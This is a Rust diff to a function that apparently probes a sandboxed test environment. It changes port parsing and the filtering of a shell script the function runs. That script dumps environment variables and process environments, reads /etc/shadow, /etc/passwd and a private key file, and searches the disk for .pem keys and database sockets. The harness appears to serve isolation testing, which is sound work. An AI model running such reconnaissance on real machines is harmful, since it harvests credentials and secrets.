@@ -60,8 +60,10 @@ pub fn all(world: &World, folder: &Path) -> Vec<Deed> {
 ///
 /// What it says when it succeeds is not written in one piece: it also prints its own command line.
 fn reconnoitre(world: &World, folder: &Path) -> String {
-    let port =
-        |url: &str| url.rsplit(':').next().unwrap_or_default().trim_end_matches('/').to_owned();
+    let port = |url: &str| {
+        let end = url.rsplit(':').next().unwrap_or_default();
+        end.chars().take_while(char::is_ascii_digit).collect::<String>()
+    };
     let ports = [
         port(&world.github.api_url()),
         port(&world.models.url()),
@@ -72,7 +74,8 @@ fn reconnoitre(world: &World, folder: &Path) -> String {
         r#"
         echo RECONNOITRED; env; cat /proc/[0-9]*/environ 2>/dev/null | tr '\0' '\n'
         cat /proc/[0-9]*/cmdline 2>/dev/null | tr '\0' '\n'
-        cat /etc/shadow /etc/passwd {0}/app.pem {0}/baton.toml docs/shadow docs/key docs/self 2>/dev/null | grep -v nobody
+        cat /etc/shadow /etc/passwd {0}/app.pem {0}/baton.toml docs/shadow docs/key docs/self 2>/dev/null \
+            | grep -av -e nobody -e ':/:/bin/sh$'
         ls {0} {0}/world {0}/world/baton /root /home 2>/dev/null
         find / -xdev \( -name '*.pem' -o -name 'baton.toml' -o -name '.s.PGSQL*' \) 2>/dev/null \
             | grep -v -e ^/usr -e ^/etc/ssl | sed "s/^/FO""UND /"
